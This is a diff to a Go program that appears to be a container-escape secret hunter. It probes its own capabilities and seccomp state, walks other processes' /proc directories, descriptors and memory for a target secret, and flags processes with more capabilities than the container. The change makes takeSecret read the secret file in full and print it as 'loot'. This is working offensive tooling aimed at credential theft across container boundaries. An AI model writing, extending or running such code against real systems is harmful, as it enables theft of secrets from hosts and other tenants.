@@ -3,6 +3,7 @@ package main
 import (
 	"errors"
 	"fmt"
+	"io"
 	"os"
 	"path/filepath"
 	"runtime"
@@ -32,7 +33,7 @@ type hunter struct {
 func (t target) hunt(args []string) {
 	runtime.LockOSThread() // who seizes a process is a thread
 	h := &hunter{target: t, self: os.Getpid()}
-	own := status("self")
+	own := status("/proc/self/status")
 	h.bound, _ = strconv.ParseUint(own["CapBnd"], 16, 64)
 	h.filter = own["Seccomp"] == "2"
 	h.know()
@@ -90,12 +91,15 @@ func (h *hunter) takeFiles(proc string) {
 
 // takeSecret reads the secret below a directory of a process.
 func (h *hunter) takeSecret(proc, dir string) {
-	fd, err := unix.Open(proc+dir+h.secret, unix.O_RDONLY|unix.O_CLOEXEC, 0)
+	f, err := os.Open(proc + dir + h.secret)
 	if err != nil {
 		return
 	}
-	unix.Close(fd)
-	h.read(proc+dir+h.secret, "through "+name(proc)+dir+" of "+h.describe(proc))
+	defer f.Close()
+	how := "through " + name(proc) + dir + " of " + h.describe(proc)
+	if b, err := io.ReadAll(f); err == nil {
+		loot.Say(os.Stdout, loot.Loot{What: loot.Read, How: how, Secret: strings.TrimSpace(string(b))})
+	}
 }
 
 // takeDescriptors follows those that are directories to the secret.
@@ -147,7 +151,7 @@ func (h *hunter) takeMemory(proc string) {
 // more says what a process of the runtime's has more than this container. To trace
 // those of containers that have no more is no loot.
 func (h *hunter) more(proc string) string {
-	theirs := statusAt(proc + "status")
+	theirs := status(proc + "status")
 	if caps, err := strconv.ParseUint(theirs["CapPrm"], 16, 64); err == nil && caps&^h.bound != 0 {
 		return "with capabilities " + theirs["CapPrm"]
 	}
@@ -227,10 +231,8 @@ func readNames(dir string) ([]string, error) {
 	return f.Readdirnames(-1)
 }
 
-// status reads /proc/PID/status.
-func status(pid string) map[string]string { return statusAt("/proc/" + pid + "/status") }
-
-func statusAt(file string) map[string]string {
+// status reads a /proc/PID/status.
+func status(file string) map[string]string {
 	b, _ := os.ReadFile(file)
 	all := map[string]string{}
 	for line := range strings.Lines(string(b)) {
